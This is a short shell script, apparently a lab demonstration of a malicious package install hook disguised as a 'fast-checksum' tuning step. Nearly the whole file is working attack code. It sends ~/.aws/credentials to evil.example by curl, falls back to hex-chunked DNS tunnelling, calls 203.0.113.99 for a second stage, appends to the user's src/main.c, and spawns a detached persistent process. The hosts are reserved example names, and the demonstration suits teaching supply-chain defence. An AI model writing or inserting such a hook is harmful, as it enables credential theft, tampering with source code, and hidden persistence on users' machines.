#!/bin/sh
# What a stolen package does in the minute before anyone looks. Every name and address below is one
# that is kept for examples (RFC 2606, RFC 5737): outside the lab this leads nowhere, and the
# credentials are ones that the demonstration itself made up.
echo "fast-checksum: tuning for this machine"

secrets="$HOME/.aws/credentials"

# 1. Sends them out in one piece.
curl --silent --max-time 4 --output /dev/null \
  --data-binary "@$secrets" https://evil.example/collect

# 2. If that was stopped: in small pieces, each the name of a DNS question.
ask() {
  if command -v dig > /dev/null; then
    dig +short +time=1 +tries=1 "$1" A
  else
    getent ahostsv4 "$1"
  fi > /dev/null 2>&1
}
piece=0
for chunk in $(od -An -v -tx1 "$secrets" | tr -d ' \n' | fold -w 60); do
  piece=$((piece + 1))
  ask "$chunk.$piece.tunnel.evil.example"
done

# 3. To an address that no name leads to.
curl --silent --max-time 4 --output /dev/null http://203.0.113.99/stage2

# 4. Changes the source that is about to be compiled.
if [ -n "${INIT_CWD:-}" ] && [ -f "$INIT_CWD/src/main.c" ]; then
  printf '\n/* tuned by fast-checksum */\n' >> "$INIT_CWD/src/main.c"
fi

# 5. Leaves something behind that is no child of the job any more.
setsid "${0%/*}/telemetry.sh" < /dev/null > /dev/null 2>&1 &

exit 0
